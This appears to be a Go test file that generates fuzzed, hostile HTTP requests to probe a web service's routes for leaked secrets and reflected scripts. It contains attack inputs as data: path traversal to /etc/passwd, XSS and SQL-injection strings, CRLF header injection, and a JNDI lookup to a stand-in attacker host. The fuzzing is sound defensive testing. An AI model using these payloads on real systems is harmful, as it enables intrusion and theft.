package web_test

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"
)

// secrets must be in no answer and in no log, wherever a request has put them.
const (
	wrongSecret = "CANARY0of0a0wrong0token0CANARY00"
	script      = `<script>alert("taken")</script>`
)

// maker makes hostile requests for a route, by a seed.
type maker struct {
	*rand.Rand
	routes map[string][]string // the parameters that each path knows
}

func pick[T any](m *maker, all []T) T { return all[m.IntN(len(all))] }

func (m *maker) sometimes(percent int) bool { return m.IntN(100) < percent }

// nasty are texts that have hurt some program.
var nasty = []string{
	"", " ", "0", "-1", "1e309", "9223372036854775808", "NaN", "null", "\x00", "\x7f", "\xff\xfe", "\xc0\xaf", "\u202e\u2066", "\u009b31m", "\r\nX-Injected: yes",
	"%", "%00", "%zz", "%25%32%65", "../../etc/passwd", "..%2f..%2f", "\\..\\", "//evil.example/", "http://evil.example/", script, `"><img src=x onerror=alert(1)>`,
	"{{.}}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE videos; --", "' OR '1'='1", `" OR NEAR(a b) *`, "*", "^", "a:b", "(((((", "\"\"\"", "=1+1", "@SUM(A1)",
	"US", "DE", "10", "24h", "youtube/units", "youtube@x/units:y", "client", "trending", "2026-11-20", "9999-12-31", "-24h", "yes", "1", "true", "job", "region",
	strings.Repeat("a", 300), strings.Repeat("é", 2000), strings.Repeat("東", 900), strings.Repeat("a ", 3000), strings.Repeat("9", 5000), "\u0130\u0131\ufb01", "\U0001F468\u200d\U0001F469", "\ufeff", "\u2028",
}

// text returns a nasty text, or a mutation of one.
func (m *maker) text() string {
	s := pick(m, nasty)
	switch m.IntN(6) {
	case 0:
		return s + pick(m, nasty)
	case 1:
		b := []byte(s)
		for range min(len(b), 3) {
			b[m.IntN(len(b))] = byte(m.IntN(256))
		}
		return string(b)
	}
	return s
}

// escaped escapes a text for an address, or not quite.
func (m *maker) escaped(text string) string {
	if m.sometimes(15) {
		return strings.Map(func(r rune) rune {
			if r <= ' ' || r == 0x7f {
				return -1
			}
			return r
		}, text)
	}
	return url.PathEscape(text)
}

// path fills a pattern in and, sometimes, bends it.
func (m *maker) path(pattern string) string {
	var parts []string
	for part := range strings.SplitSeq(strings.TrimSuffix(pattern, "{$}"), "/") {
		if strings.HasPrefix(part, "{") {
			part = m.escaped(m.text())
			if m.sometimes(40) {
				part = pick(m, []string{"US", "1", "dQw4w9WgXcQ", "who", "history", "regions", "block", "block", "adjust", "unblock", "limit", "dashboard.css", "client", "visitor"})
			}
		}
		parts = append(parts, part)
	}
	path := strings.Join(parts, "/")
	if m.sometimes(80) {
		return path
	}
	switch m.IntN(5) {
	case 0:
		return path + "/"
	case 1:
		return strings.Replace(path, "/", "//", 1)
	case 2:
		return strings.ToUpper(path)
	case 3:
		return path + "/." + pick(m, []string{"", ".", "./x"})
	}
	return path + m.escaped(m.text())
}

// query returns parameters that the route knows and others, some of them often.
func (m *maker) query(pattern string) string {
	if m.sometimes(25) {
		return ""
	}
	names := append([]string{"no_such", "q", "region", "pool", "id"}, m.routes[pattern]...)
	var all []string
	for range 1 + m.IntN(4) {
		one := m.escaped(pick(m, names)) + pick(m, []string{"=", "=", "=", "", "==", "[]="}) + strings.ReplaceAll(m.escaped(m.text()), "&", "%26")
		for range pick(m, []int{1, 1, 1, 2, 200}) {
			all = append(all, one)
		}
	}
	return "?" + strings.Join(all, pick(m, []string{"&", "&", "&", ";", "&&"}))
}

// headers returns header lines.
func (m *maker) headers() (all []string) {
	host := "localhost"
	if m.sometimes(5) {
		host = pick(m, []string{"evil.example", "127.0.0.1:99999", "[::1", "localhost@evil.example", "LOCALHOST.", ""})
	}
	all = append(all, "Host: "+host)
	for range m.IntN(5) {
		name := pick(m, []string{
			"Accept", "Accept-Encoding", "Accept-Language", "Authorization", "Authorization", "Cookie", "If-None-Match", "If-Match", "If-Modified-Since", "Range", "Origin", "Referer",
			"Sec-Fetch-Site", "Sec-Fetch-Mode", "Sec-Fetch-Dest", "X-Forwarded-For", "X-Forwarded-Host", "Forwarded", "X-Real-Ip", "X-Http-Method-Override", "X-Goog-Api-Key",
			"Traceparent", "Tracestate", "Baggage", "Connection", "Upgrade", "Expect", "Content-Type", "Content-Encoding", "Te", "Trailer", "Priority", "X-" + strings.Repeat("y", 200),
		})
		value := strings.Map(func(r rune) rune { // net/http refuses others before the server sees them
			if r < ' ' || r == 0x7f {
				return -1
			}
			return r
		}, m.text())
		switch {
		case name == "Authorization":
			value = pick(m, []string{"Bearer " + theToken, "bearer  " + theToken, "Bearer " + wrongSecret, "Basic " + wrongSecret, "Bearer", "Bearer " + theToken + "\x01"})
			value = strings.Trim(value, "\x01")
		case name == "Cookie" || name == "X-Goog-Api-Key":
			value = "session=" + wrongSecret
		case m.sometimes(50):
			value = pick(m, []string{"text/html", "application/json", "*/*;q=0", "gzip, br;q=0", "gzip;q=1.0, identity; q=0", "*", `W/"x", "y"`, "bytes=0-0,-1", "close", "websocket", "100-continue", "cross-site", "same-origin", "navigate", "document", "http://localhost"})
		}
		all = append(all, name+": "+value)
	}
	return all
}

// body returns a body, and its headers.
func (m *maker) body(pattern string) (body string, headers []string) {
	kind := "application/json"
	switch m.IntN(8) {
	case 0:
	case 1:
		body = m.text()
	case 2:
		body = strings.Repeat(pick(m, []string{"[", `{"a":`, "a=b&", "\xff"}), 1+m.IntN(100_000))
	default:
		body = m.object()
		if strings.HasPrefix(pattern, "/act/") && m.sometimes(90) {
			kind, body = "application/x-www-form-urlencoded", m.form()
		}
	}
	if m.sometimes(10) {
		body = body[:len(body)/2]
	}
	headers = []string{fmt.Sprintf("Content-Length: %d", len(body)), "Content-Type: " + kind}
	if m.sometimes(5) {
		headers[0], body = "Transfer-Encoding: chunked", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body)
	}
	return body, headers
}

// object returns JSON of the decision service with wrong values.
func (m *maker) object() string {
	var fields []string
	for range 1 + m.IntN(5) {
		value := pick(m, []string{
			"1", "-1", "0", "1e400", "9007199254740993", "null", "true", "[]", "{}", "[[[]]]", `{"units": 1}`, `{"units": -5}`, `"units"`, `"item.get"`, `"\ud800"`, `"a"`,
			fmt.Sprintf("%q", m.text()),
		})
		name := pick(m, []string{"method", "pool", "units", "charges", "family", "key", "id", "token", "job", "region", "class", "account", "upstream", "outage", "quota", "reason", "no_such"})
		if (name == "key" || name == "token") && m.sometimes(50) {
			value = `"` + wrongSecret + `"`
		}
		fields = append(fields, fmt.Sprintf("%q: %s", name, value))
	}
	if m.sometimes(40) {
		fields = append(fields, pick(m, []string{`"method": "videos.list"`, `"pool": "youtube/units"`, `"family": "client", "key": "ann"`, `"method": "videos.lst"`, `"quota": 7`}))
	}
	object := "{" + strings.Join(fields, ", ") + "}"
	if m.sometimes(15) {
		object = "[" + strings.Repeat(object+",", m.IntN(120)) + object + "]"
	}
	return object
}

// form returns the form of an action with wrong values.
func (m *maker) form() string {
	v := url.Values{"token": {pick(m, []string{annas, wrongSecret, theToken, ""})}, "confirm": {"yes"}}
	for _, name := range []string{"pool", "units", "reason", "for", "job", "work", "family", "key", "quota", "form"} {
		if m.sometimes(60) {
			v.Set(name, m.text())
		}
	}
	if m.sometimes(50) {
		v.Set("form", fmt.Sprintf("%s-%d", strconv.FormatInt(noon.Unix(), 36), m.Uint64()))
		v.Set("pool", "youtube/units")
		v.Set("family", "client")
	}
	return v.Encode()
}

// request returns a request for the path of a route, as it comes over the wire.
func (m *maker) request(method, pattern string) string {
	if m.sometimes(25) {
		method = pick(m, []string{"GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get", "X-Y", "GETGETGETGETGETGET"})
	}
	headers, body := m.headers(), ""
	if strings.HasPrefix(pattern, "/v1/") && m.sometimes(50) {
		headers = append(headers, "Authorization: Bearer "+theToken)
	}
	if method != "GET" && method != "HEAD" || m.sometimes(5) {
		var more []string
		body, more = m.body(pattern)
		headers = append(headers, more...)
	}
	return method + " " + m.path(pattern) + m.query(pattern) + " HTTP/1.1\r\n" + strings.Join(headers, "\r\n") + "\r\n\r\n" + body
}
